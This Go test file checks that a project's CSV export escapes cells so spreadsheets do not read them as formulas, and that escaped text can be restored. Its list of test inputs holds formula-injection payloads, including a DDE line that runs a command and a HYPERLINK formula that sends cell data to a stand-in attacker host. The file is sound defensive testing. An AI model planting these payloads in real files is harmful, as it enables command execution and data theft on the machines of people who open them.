package persistence

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/theeye-dev/theeye/api/event"
)

// restored reads a text as api/openapi.yaml says that it can be.
func restored(cell string) string {
	return regexp.MustCompile(`(^|[;\t\r\n])'`).ReplaceAllString(cell, "$1")
}

// hostile are texts that some spreadsheet takes for a formula, or for several cells of which one is.
func hostile() []string {
	return []string{
		`=1+1`, `+1`, `-1`, `@SUM(1)`, `=cmd|'/c calc'!A1`, `=HYPERLINK("http://evil.example/?"&A1,"x")`,
		"\t=1", "\r=1", "\n=1", "\tx", "\rx", "\r\n=1", "  =1", "\u00a0=1", "\ufeff=1", "\u200b-1", "\x01+1", `"=1"`, ` " =1`, "＝1", "＠x",
		`a";=1;"`, "a;=1", "a; \t-1", "a\n=1", "a\r\n@x", "a\tb\t+1", `x,"=1`, `'=1`, "''=1", "a;'=1", "\n'=1", ";;=1", "'", ";'",
	}
}

// TestNoCellIsAFormula for any text, whichever separators a spreadsheet goes by; and the text can be had back.
func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	check := func(t interface{ Errorf(string, ...any) }, text string) {
		cell := inert(text)
		for _, part := range regexp.MustCompile(`[;\t\r\n]`).Split(cell, -1) {
			if trimmed := strings.TrimLeft(part, " \u00a0\ufeff\u200b\x01\""); trimmed != "" && strings.ContainsAny(trimmed[:1], "=+-@") || strings.HasPrefix(trimmed, "＝") {
				t.Errorf("%q is written as %q, of which %q is a formula", text, cell, part)
			}
		}
		if strings.ContainsAny(cell[:min(1, len(cell))], "=+-@\t\r\n") {
			t.Errorf("%q is written as %q", text, cell)
		}
		if back := restored(cell); back != text {
			t.Errorf("%q is written as %q, and comes back as %q", text, cell, back)
		}
	}
	for _, text := range hostile() {
		check(t, text)
		if inert(text) == text && !slices.Contains([]string{`x,"=1`}, text) {
			t.Errorf("%q is written as it is", text)
		}
	}
	for _, text := range []string{"", "s-1", "web shop", "a=b", "1-2", "it's", "a;b", "日本", "{=}", "a'b;c d"} {
		if inert(text) != text {
			t.Errorf("%q is written as %q", text, inert(text))
		}
	}
	rapid.Check(t, func(r *rapid.T) {
		check(r, rapid.StringOf(rapid.SampledFrom([]rune("=+-@＝;,\t\r\n'\" a1\ufeffé"))).Draw(r, "text"))
	})
}

// TestExportIsNoProgram: what is sent to harm whoever opens the table comes as text, and as it was where that is asked for.
func TestExportIsNoProgram(t *testing.T) {
	t.Parallel()
	l := newLibrary(t)
	sent := map[string]string{} // session by id
	var items []event.Item
	for i, text := range hostile() {
		id := strings.Repeat("i", i+1)
		sent[id] = text
		original, err := json.Marshal(map[string]any{"id": id, "session_id": text, "category": text, "name": "n", "data": map[string]any{text: "a;=1", "n": -1}})
		l.must(err)
		items = append(items, event.Item{Original: original})
	}
	_, err := l.store.Insert(t.Context(), records(l.entry(l.request(shop, items...))))
	l.must(err)
	for format, read := range map[string]func(string) string{"csv": restored, "csv-raw": func(cell string) string { return cell }} {
		_, body := l.export(shop, "select=id,session_id,category,type,data&format="+format, "identity")
		rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		l.must(err)
		if len(rows) != len(sent)+1 {
			t.Fatalf("%s: %d rows of %d", format, len(rows), len(sent))
		}
		for _, row := range rows[1:] {
			want := strings.Join([]string{sent[row[0]], sent[row[0]], sent[row[0]] + " n"}, "|")
			got := strings.Join([]string{read(row[1]), read(row[2]), read(row[3])}, "|")
			if ends := strings.NewReplacer("\r\n", "\n"); ends.Replace(got) != ends.Replace(want) { // encoding/csv reads one as the other
				t.Errorf("%s: %q comes as %q", format, want, got)
			}
			var data map[string]any
			l.must(json.Unmarshal([]byte(row[4]), &data))
			if data[sent[row[0]]] != "a;=1" || data["n"] != -1.0 || strings.Contains(row[4], ";") != (format == "csv-raw") {
				t.Errorf("%s: data comes as %s", format, row[4])
			}
			if format == "csv" && strings.ContainsAny(row[1][:1], "=+-@\t\r\n") {
				t.Errorf("%s: a cell begins with %q", format, row[1])
			}
		}
	}
}
